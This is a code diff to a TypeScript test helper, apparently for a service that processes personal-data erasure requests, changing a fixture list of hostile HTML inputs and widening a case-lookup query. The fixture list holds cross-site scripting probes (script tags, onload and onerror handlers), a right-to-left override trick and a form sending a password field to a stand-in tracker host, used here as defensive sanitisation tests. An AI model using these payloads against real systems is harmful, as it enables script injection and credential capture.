@@ -37,7 +37,7 @@ export const hostile = [
   '<html><head><style>body{display:none}</style><script>fetch("https://tracker.example/s")</script>',
   '<link rel="stylesheet" href="https://tracker.example/c.css"></head>',
   '<body onload="alert(1)"><img src="https://tracker.example/p.png"><img src=x onerror=alert(1)>',
-  '<p>Please delete all my data. \u202Eevil\u202C &lt;/div&gt;&lt;script&gt;alert(2)&lt;/script&gt;</p>',
+  '<p>Please erase all the personal data you hold about me. \u202Eevil\u202C &lt;/div&gt;&lt;script&gt;alert(2)&lt;/script&gt;</p>',
   '<form action="https://tracker.example/"><input name="password"></form>',
   `<table>${'<tr><td>cell</td></tr>'.repeat(400)}</table></body></html>`,
   '--b',
@@ -68,14 +68,11 @@ export async function arrive(desk: Desk, raw: string | Buffer): Promise<void> {
   ]);
 }
 
-export async function caseOf(desk: Desk, address: string, right: RightId | null) {
-  const found = await desk.db
-    .selectFrom('cases')
-    .selectAll()
-    .where('address', '=', address)
-    .where('right', right === null ? 'is' : '=', right)
-    .orderBy('received_at', 'desc')
-    .executeTakeFirst();
+/** @param right `any` where it does not matter how the letter was read */
+export async function caseOf(desk: Desk, address: string, right: RightId | null | 'any') {
+  let query = desk.db.selectFrom('cases').selectAll().where('address', '=', address);
+  if (right !== 'any') query = query.where('right', right === null ? 'is' : '=', right);
+  const found = await query.orderBy('received_at', 'desc').executeTakeFirst();
   if (!found) throw new Error(`${address} has no case of ${right}.`);
   return found;
 }
